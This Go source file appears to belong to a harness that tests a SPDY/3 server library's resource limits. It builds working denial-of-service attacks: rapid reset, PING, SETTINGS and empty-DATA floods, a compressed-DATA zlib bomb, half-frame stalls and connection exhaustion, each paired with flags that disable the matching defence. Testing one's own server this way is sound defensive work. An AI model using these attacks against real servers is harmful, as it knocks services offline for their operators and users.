package main

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"strings"
	"sync"
	"time"

	"github.com/spdylab/spdylab/spdy"
)

// targets are the requests ("METHOD path") an attack makes of one server.
// The in-process handler blocks on every path; a server process answers
// by path, so each class picks the handler it needs.
type targets struct {
	sink  string // reads the request body until FIN and answers then
	hold  string // never reads the request body and does not finish
	small string // a small GET answered at once
}

var (
	// spdylabTargets: /_spdylab/bytes of 1 GiB stalls on the stream window
	// the attacker never opens, never reading the request body.
	spdylabTargets = targets{
		sink:  "POST /_spdylab/sha256",
		hold:  "GET /_spdylab/bytes?n=1073741824",
		small: "GET " + probePath,
	}
	// nodeTargets: server.js has no holding handler (its /_spdylab/bytes
	// would generate the whole body in JavaScript first); node-spdy refuses
	// compressed DATA in its parser before any handler runs anyway.
	nodeTargets = targets{
		sink:  "POST /_spdylab/sha256",
		hold:  "POST /_spdylab/sha256",
		small: "GET " + probePath,
	}
)

// probePath is the small resource the served-during and served-after
// checks fetch, on both servers.
const (
	probePath = "/_spdylab/bytes?n=1024"
	probeSize = 1024
)

type attack struct {
	name, limit string
	// off turns the class's limit off in-process; nil: a process-mode class.
	off  func(c *spdy.Config)
	base spdy.Config // in-process configuration
	// offFlags turn the limit off in `spdylab serve`; nil: the limit has
	// no flag, so only its default is measured.
	offFlags []string
	frames   func(t targets, i int) []spdy.Frame
	raw      func(i int) []byte // instead of frames
	noRead   bool               // the attacker never reads
	// conns > 0 (process mode): open up to this many connections, send
	// raw(0) on each and hold them all.
	conns int
	// inprocOnly: a variant that needs an in-process configuration.
	inprocOnly bool
}

// request is a SPDY/3 request header block for "METHOD path".
func request(req string) spdy.Header {
	method, path, _ := strings.Cut(req, " ")
	return spdy.Header{":method": {method}, ":path": {path}, ":version": {"HTTP/1.1"}, ":host": {"127.0.0.1"}, ":scheme": {"http"}}
}

var halfPing = []byte{0x80, 3, 0, 6, 0, 0, 0, 4, 0, 0} // 10 of a PING's 12 bytes

func attacks(conns int) []attack {
	return append(streamAttacks(), connAttacks(conns)...)
}

// streamAttacks are the classes played over one connection.
func streamAttacks() []attack {
	value := strings.Repeat("v", 16<<10)
	return []attack{
		{name: "HEADERS on one stream", limit: "MaxHeaderBytesPerStream",
			off:      func(c *spdy.Config) { c.MaxHeaderBytesPerStream = 1 << 40; c.MaxEmptyFramesPerSecond = -1 },
			offFlags: []string{"--max-header-bytes=1099511627776", "--max-empty-frames-per-sec=-1"},
			frames: func(t targets, i int) []spdy.Frame {
				if i == 0 {
					return []spdy.Frame{&spdy.SynStreamFrame{Stream: 1, Headers: request(t.sink)}}
				}
				return []spdy.Frame{&spdy.HeadersFrame{Stream: 1, Headers: spdy.Header{fmt.Sprintf("x-%d", i): {value}}}}
			}},
		{name: "PING flood, echoes not read", limit: "MaxQueuedControlFrames", noRead: true,
			off:      func(c *spdy.Config) { c.MaxQueuedControlFrames = 1 << 30 },
			offFlags: []string{"--max-control-queue=1073741824"},
			frames: func(t targets, i int) []spdy.Frame { // 1000 per write, so the flood outruns the socket buffers
				fs := make([]spdy.Frame, 1000)
				for j := range fs {
					fs[j] = &spdy.PingFrame{ID: uint32(2*(i*1000+j)+1) & 0x7fffffff}
				}
				return fs
			}},
		{name: "rapid reset", limit: "MaxResetsPerSecond",
			off:      func(c *spdy.Config) { c.MaxResetsPerSecond = -1 },
			offFlags: []string{"--max-resets-per-sec=-1"},
			frames: func(t targets, i int) []spdy.Frame {
				id := uint32(2*i+1) & 0x7fffffff
				return []spdy.Frame{&spdy.SynStreamFrame{Stream: id, Flags: spdy.FlagFin, Headers: request(t.small)}, &spdy.RstStreamFrame{Stream: id, Status: spdy.RstCancel}}
			}},
		{name: "SETTINGS flood", limit: "MaxSettingsPerSecond",
			off:      func(c *spdy.Config) { c.MaxSettingsPerSecond = -1 },
			offFlags: []string{"--max-settings-per-sec=-1"},
			frames: func(t targets, i int) []spdy.Frame {
				return []spdy.Frame{&spdy.SettingsFrame{Entries: []spdy.Setting{{ID: spdy.SettingRoundTripTime, Value: uint32(i)}}}}
			}},
		{name: "empty DATA flood", limit: "MaxEmptyFramesPerSecond",
			off:      func(c *spdy.Config) { c.MaxEmptyFramesPerSecond = -1 },
			offFlags: []string{"--max-empty-frames-per-sec=-1"},
			frames: func(t targets, i int) []spdy.Frame {
				if i == 0 {
					return []spdy.Frame{&spdy.SynStreamFrame{Stream: 1, Headers: request(t.sink)}}
				}
				return []spdy.Frame{&spdy.DataFrame{Stream: 1}}
			}},
		{name: "refused streams", limit: "MaxRefusedStreamsPerSecond", base: spdy.Config{MaxConcurrentStreams: 1},
			off:      func(c *spdy.Config) { c.MaxRefusedStreamsPerSecond = -1 },
			offFlags: []string{"--max-refused-per-sec=-1"},
			frames: func(t targets, i int) []spdy.Frame { // streams that stay open: the sink waits for FIN
				return []spdy.Frame{&spdy.SynStreamFrame{Stream: uint32(2*i+1) & 0x7fffffff, Headers: request(t.sink)}}
			}},
		bombAttack(),
		{name: "half a frame, then silence", limit: "FrameReadTimeout (1 s here)", base: spdy.Config{FrameReadTimeout: time.Second},
			off: func(c *spdy.Config) { c.FrameReadTimeout = -1 }, inprocOnly: true,
			raw: func(i int) []byte {
				if i == 0 {
					return halfPing
				}
				time.Sleep(10 * time.Millisecond)
				return nil
			}},
	}
}

// bombAttack sends 1 MiB of zeros per DATA frame, compressed to about 1 KiB
// (FLAG_DATA_COMPRESSED, one zlib stream per SPDY stream), to a handler
// that never reads them.
func bombAttack() attack {
	var zb bytes.Buffer
	zw := zlib.NewWriter(&zb)
	zeros := make([]byte, 1<<20)
	bomb := func() []byte { zb.Reset(); zw.Write(zeros); zw.Flush(); return append([]byte(nil), zb.Bytes()...) }
	return attack{name: "compressed DATA bomb", limit: "MaxInflatedBuffer",
		off:      func(c *spdy.Config) { c.MaxInflatedBuffer = 1 << 40 },
		offFlags: []string{"--max-inflated-buffer=1099511627776"},
		frames: func(t targets, i int) []spdy.Frame {
			if i == 0 {
				zb.Reset()
				zw.Reset(&zb)
				return []spdy.Frame{&spdy.SynStreamFrame{Stream: 1, Headers: request(t.hold)}}
			}
			return []spdy.Frame{&spdy.DataFrame{Stream: 1, Flags: spdy.FlagDataCompress, Data: bomb()}}
		}}
}

// connAttacks hold many connections from one client (process mode).
func connAttacks(conns int) []attack {
	return []attack{
		{name: "idle connections", limit: "MaxConns, IdleTimeout (2 min)", conns: conns,
			offFlags: []string{"--max-conns=1000000", "--max-conns-per-client=1000000", "--idle-timeout=-1s"}},
		{name: "half a frame on each connection", limit: "MaxConns, FrameReadTimeout (30 s)", conns: conns,
			offFlags: []string{"--max-conns=1000000", "--max-conns-per-client=1000000", "--frame-timeout=-1s"},
			raw:      func(int) []byte { return halfPing }},
		{name: "never-finished streams on each connection", limit: "MaxConnsPerClient, MaxConcurrentStreams", conns: conns,
			offFlags: []string{"--max-conns=1000000", "--max-conns-per-client=1000000"},
			raw:      func(int) []byte { return unfinishedStreams() }},
	}
}

// unfinishedStreams is a session's opening that fills its stream limit
// (the default MAX_CONCURRENT_STREAMS) with uploads that never send a byte
// of body or a FIN: each stream's handler waits for its body. Both servers'
// sink is the same path. Every connection gets the same bytes, each
// compressed in its own new zlib context as a session must be.
var unfinishedStreams = sync.OnceValue(func() []byte {
	var buf bytes.Buffer
	fr := spdy.NewFramer(&buf, nil, 0)
	for i := range spdy.DefaultMaxConcurrentStreams {
		fr.WriteFrame(&spdy.SynStreamFrame{Stream: uint32(2*i + 1), Headers: request(spdylabTargets.sink)})
	}
	fr.Flush()
	return buf.Bytes()
})
